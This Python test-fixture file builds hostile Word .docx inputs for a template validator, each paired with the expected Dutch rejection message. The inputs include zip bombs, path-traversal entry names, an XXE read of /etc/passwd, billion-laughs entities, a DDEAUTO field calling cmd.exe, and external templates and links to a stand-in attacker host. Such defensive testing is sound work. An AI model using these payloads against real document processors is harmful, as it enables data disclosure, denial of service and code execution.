"""Files somebody could send as a house style to do harm or by mistake: (what it is, its bytes, a word of the Dutch answer)."""
# ruff: noqa: E501 - pieces of XML are easier to compare on one line

import re
import struct
import warnings
import zlib
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_LZMA, ZipFile

from workbench.documents.house import DEFAULT
from workbench.documents.house_check import parts_of
from workbench.documents.ooxml import zipped

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NORM = parts_of(DEFAULT.read_bytes())
BODY = NORM["word/document.xml"].decode()
SETTINGS = NORM["word/settings.xml"].decode()
RELS = NORM["word/_rels/document.xml.rels"].decode()
TYPES = NORM["[Content_Types].xml"].decode()
SLOT = BODY[BODY.index("<w:sdt>", BODY.index("<w:body>")) :]


def style(**parts):
    """Our own house style with parts changed or added: __ stands for a slash, _x at the end for .xml."""
    named = {
        name.replace("__", "/").removesuffix("_x") + (".xml" if name.endswith("_x") else ""): part
        for name, part in parts.items()
    }
    return zipped(NORM | named)


def with_words(words, *, at_end=True):
    """Words added to the text: at its end, before the section; or around everything."""
    end = BODY.rindex("<w:sectPr") if at_end else BODY.index("<w:body>") + len("<w:body>")
    return style(word__document_x=BODY[:end] + words + BODY[end:])


def related(kind, target="embeddings/x.bin", mode=""):
    relation = f'<Relationship Id="h1" Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'
    return RELS.replace("</Relationships>", relation)


def field(*codes):
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return with_words(f"<w:p>{begin}{runs}{end}</w:p>")


def typed(kind):
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return style(**{"[Content_Types]_x": TYPES.replace(main, kind)})


def squeezed(method):
    whole = BytesIO()
    with ZipFile(whole, "w", method) as package:
        for name, part in NORM.items():
            package.writestr(name, part)
    return whole.getvalue()


def lying(real=30_000_000):
    """A package whose part says it is small and unfolds into thirty million bytes."""
    raw = zlib.compress(b"\x00" * real, 9)[2:-4]
    name, crc = b"word/media/bom.png", zlib.crc32(b"\x00" * real)
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(raw), 100, len(name), 0) + name + raw
    told = (
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(raw), 100, len(name), 0, 0, 0, 0, 0, 0)
        + name
    )
    return local + told + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(told), len(local), 0)


def twice(name):
    whole = BytesIO(zipped(NORM))
    with ZipFile(whole, "a") as package, warnings.catch_warnings(action="ignore"):
        package.writestr(name, NORM["word/document.xml"])
    return whole.getvalue()


def encrypted():
    content = bytearray(zipped(NORM))
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def entities(levels):
    declared = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "haha"}">' for n in range(levels))
    return f'<?xml version="1.0"?><!DOCTYPE w:document [{declared}]><w:document {W}><w:body>&e{levels - 1};</w:body></w:document>'


LAUGHS = entities(9)
OUTSIDE = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {W}><w:body>&x;</w:body></w:document>'
DEEP = f"<w:document {W}>" + "<w:p>" * 5000 + "</w:p>" * 5000 + "</w:document>"
NOT_A_SLOT = BODY.replace('w:val="inhoud"', 'w:val="iets"')
TWO_SLOTS = BODY.replace(
    "</w:body>", '<w:sdt><w:sdtPr><w:tag w:val="inhoud"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt></w:body>'
)
IN_LINE = '<w:p><w:r><w:t>Hier: </w:t></w:r><w:sdt><w:sdtPr><w:tag w:val="inhoud"/></w:sdtPr><w:sdtContent><w:r><w:t>x</w:t></w:r></w:sdtContent></w:sdt></w:p>'
IN_CELL = '<w:tbl><w:tr><w:tc><w:sdt><w:sdtPr><w:tag w:val="inhoud"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt></w:tc></w:tr></w:tbl>'


def slot_replaced(words):
    return style(word__document_x=NOT_A_SLOT.replace("<w:sectPr", words + "<w:sectPr", 1))


HOSTILE = [
    ("a bomb of zeroes", style(**{"word/media/bom.png": b"\x00" * 30_000_000}), "te groot"),
    ("a bomb that lies about its size", lying(), "geen Word-bestand"),
    ("a thousand parts", style(**{f"word/media/{n}.png": b"x" for n in range(1000)}), "te groot"),
    ("a file of six megabytes", zipped(NORM) + b"\x00" * 6_000_000, "te groot"),
    ("ten megabytes of text", style(word__document_x=BODY.replace("</w:body>", "<w:p/>" * 1_700_000 + "</w:body>")), "te veel tekst"),
    ("a name that climbs out", style(**{"../../etc/cron.d/x": b"x"}), "geen heel Word-bestand"),
    ("a name from the root", style(**{"/etc/passwd": b"x"}), "geen heel Word-bestand"),
    ("a name with a drive", style(**{"C:\\x.xml": b"<a/>"}), "geen heel Word-bestand"),
    ("two parts of one name", twice("word/document.xml"), "geen heel Word-bestand"),
    ("two parts that differ in capitals", twice("word/Document.xml"), "geen heel Word-bestand"),
    ("an odd compression", squeezed(ZIP_BZIP2), "geen Word-bestand"),
    ("another odd compression", squeezed(ZIP_LZMA), "geen Word-bestand"),
    ("a password", encrypted(), "wachtwoord"),
    ("an old .doc", bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 4000, "oud Word-bestand"),
    ("half a file", zipped(NORM)[:20_000], "geen Word-bestand"),
    ("no zip at all", b"%PDF-1.7 geen Word", "geen Word-bestand"),
    ("a zip of something else", zipped({"hallo.txt": b"x"}), "geen heel Word-bestand"),
    ("an external template", style(**{"word/_rels/settings.xml.rels": related("attachedTemplate", "http://kwaad.example/x.dotm", ' TargetMode="External"')}), "buiten"),
    ("a template on the disk", style(word__settings_x=SETTINGS.replace("</w:settings>", f'<w:attachedTemplate xmlns:r="{R}" r:id="h1"/></w:settings>')), "buiten"),
    ("a linked picture", style(**{"word/_rels/document.xml.rels": related("image", "http://kwaad.example/x.png", ' TargetMode="External"')}), "buiten"),
    ("a link in the footer", style(**{"word/_rels/footer1.xml.rels": related("hyperlink", "http://kwaad.example", ' TargetMode="External"')}), "buiten"),
    ("a mail merge", style(word__settings_x=SETTINGS.replace("</w:settings>", "<w:mailMerge/></w:settings>")), "buiten"),
    ("macros", style(**{"word/vbaProject.bin": b"x"}), "macro"),
    ("a .docm", typed("application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    ("a .dotm", typed("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"), "macro"),
    ("an embedded workbook", style(**{"word/embeddings/x.xlsx": b"x"}), "macro"),
    ("an embedded object", style(**{"word/_rels/document.xml.rels": related("oleObject")}), "object"),
    ("an ActiveX control", style(**{"word/activeX/activeX1.xml": b"<a/>"}), "macro"),
    ("another file pulled in", style(**{"word/_rels/document.xml.rels": related("aFChunk", "x.html")}), "object"),
    ("a chunk of another file", with_words(f'<w:altChunk xmlns:r="{R}" r:id="h1"/>'), "object"),
    ("a DDE field", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "veld"),
    ("a DDE field in pieces", field("DD", "EAU", "TO excel x"), "veld"),
    ("a field in a field", field("QUOTE ", "INCLUDETEXT c:/x"), "veld"),
    ("a field that pulls in a picture", with_words('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://kwaad.example "/></w:p>'), "veld"),
    ("a field without a beginning", with_words("<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"), "veld"),
    ("a field that tells the author", with_words('<w:p><w:fldSimple w:instr="AUTHOR"/></w:p>'), "veld"),
    ("comments", style(**{"word/comments.xml": b"<c/>"}), "macro"),
    ("tracked changes", with_words("<w:p><w:ins><w:r><w:t>x</w:t></w:r></w:ins></w:p>"), "wijzigingen"),
    ("hidden words", with_words("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>geheim</w:t></w:r></w:p>"), "verborgen"),
    ("a protected file", style(word__settings_x=SETTINGS.replace("</w:settings>", '<w:documentProtection w:enforcement="1"/></w:settings>')), "beveiligd"),
    ("a thousand million laughs", style(word__document_x=LAUGHS), "beschadigd"),
    ("laughs in another alphabet", style(word__document_x=LAUGHS.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")), "beschadigd"),
    ("a file of the server", style(word__document_x=OUTSIDE), "beschadigd"),
    ("five thousand deep", style(word__document_x=DEEP), "beschadigd"),
    ("broken xml", style(word__document_x=BODY[:-40]), "beschadigd"),
    ("no styles", zipped({name: part for name, part in NORM.items() if name != "word/styles.xml"}), "geen heel Word-bestand"),
    ("no place for the content", style(word__document_x=NOT_A_SLOT), "inhoud"),
    ("two places for the content", style(word__document_x=TWO_SLOTS), "inhoud"),
    ("a place in a line", slot_replaced(IN_LINE), "inhoud"),
    ("a place in a table", slot_replaced(IN_CELL), "inhoud"),
    ("a section without a header", style(word__document_x=re.sub(r"<w:headerReference[^>]*/>", "", BODY)), "ontvanger"),
    ("no name in the header", style(**{f"word/header{n}.xml": NORM[f"word/header{n}.xml"].replace(b'"ontvanger"', b'"iemand"') for n in (1, 2)}), "ontvanger"),
]  # fmt: skip
